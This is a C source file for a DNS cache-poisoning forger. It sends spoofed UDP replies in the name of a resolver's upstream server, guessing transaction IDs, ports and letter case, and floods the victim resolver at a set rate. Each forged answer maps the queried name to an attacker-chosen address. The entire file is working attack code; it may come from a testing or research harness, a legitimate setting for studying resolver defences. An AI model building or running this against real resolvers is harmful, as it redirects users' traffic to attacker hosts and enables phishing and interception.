/* A forger of replies: floods a resolver with answers in the name of its upstream, as fast as it is told to.
 *
 *   forge UPSTREAM PORT VICTIM LIE RATE SECONDS SEED
 *
 * Lines on standard input, `NAME PORT ID`, say what is being asked at the moment. With PORT 0 the port is guessed,
 * anew for each datagram, and with ID -1 the id; the letters' case is guessed always. It needs a raw socket, and prints
 * how many datagrams it sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "dice.h"

#define BATCH 64
#define HEADERS (sizeof(struct iphdr) + sizeof(struct udphdr))

/* What is being asked. */
static char name[256];
static int port, id;

/* Reads what standard input has; 0 at its end. */
static int listen_to_orders(void) {
    static char line[1024];
    static size_t held;
    ssize_t got = read(0, line + held, sizeof line - 1 - held);
    if (got == 0) return 0;
    if (got < 0) return 1;
    held += got;
    line[held] = 0;
    char *end;
    while ((end = strchr(line, '\n'))) {
        *end = 0;
        if (sscanf(line, "%255s %d %d", name, &port, &id) != 3) exit(2);
        held -= end + 1 - line;
        memmove(line, end + 1, held + 1);
    }
    return 1;
}

/* A name in the form of a message, with the case of its letters drawn; its length. */
static size_t spell(unsigned char *out) {
    size_t at = 0;
    char rest[256];
    strcpy(rest, name);
    for (char *label = strtok(rest, "."); label; label = strtok(NULL, ".")) {
        out[at++] = strlen(label);
        for (; *label; label++) {
            int letter = (*label >= 'a' && *label <= 'z') || (*label >= 'A' && *label <= 'Z');
            out[at++] = letter && draw() >> 63 ? *label ^ 0x20 : *label;
        }
    }
    out[at++] = 0;
    return at;
}

int main(int argc, char **argv) {
    if (argc != 8) return 2;
    struct in_addr upstream, victim, lie;
    if (!inet_aton(argv[1], &upstream) || !inet_aton(argv[3], &victim) || !inet_aton(argv[4], &lie)) return 2;
    double rate = atof(argv[5]), seconds = atof(argv[6]);
    state = atoll(argv[7]) * 2654435761u + 88172645463325252ULL;
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (raw < 0) {
        perror("a raw socket");
        return 1;
    }
    fcntl(0, F_SETFL, O_NONBLOCK);
    static unsigned char packets[BATCH][HEADERS + 600];
    static struct mmsghdr messages[BATCH];
    static struct iovec parts[BATCH];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = victim};
    for (int at = 0; at < BATCH; at++) {
        parts[at].iov_base = packets[at];
        messages[at].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to};
        messages[at].msg_hdr.msg_iov = &parts[at];
        messages[at].msg_hdr.msg_iovlen = 1;
    }
    double begun = now();
    uint64_t sent = 0;
    while (now() - begun < seconds && listen_to_orders()) {
        if (!name[0] || sent > (now() - begun) * rate) {
            if (!name[0]) begun = now();
            nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
            continue;
        }
        for (int at = 0; at < BATCH; at++) {
            unsigned char *dns = packets[at] + HEADERS;
            uint64_t chance = draw();
            uint16_t guess = id < 0 ? chance & 0xffff : (uint64_t)id;
            uint16_t aim = port ? (uint64_t)port : 1024 + (chance >> 16) % 64512;
            memcpy(dns, (unsigned char[]){guess >> 8, guess, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0}, 12);
            size_t length = 12 + spell(dns + 12);
            memcpy(dns + length, "\0\1\0\1\xc0\x0c\0\1\0\1\0\1\x51\x80\0\4", 16);
            memcpy(dns + length + 16, &lie, 4);
            length += 20;
            struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
            ip.saddr = upstream.s_addr;
            ip.daddr = victim.s_addr;
            ip.tot_len = htons(HEADERS + length);
            struct udphdr udp = {.source = htons(atoi(argv[2])), .dest = htons(aim), .len = htons(sizeof udp + length)};
            memcpy(packets[at], &ip, sizeof ip);
            memcpy(packets[at] + sizeof ip, &udp, sizeof udp);
            parts[at].iov_len = HEADERS + length;
        }
        int done = sendmmsg(raw, messages, BATCH, 0);
        if (done > 0) sent += done;
    }
    printf("%llu\n", (unsigned long long)sent);
    return 0;
}
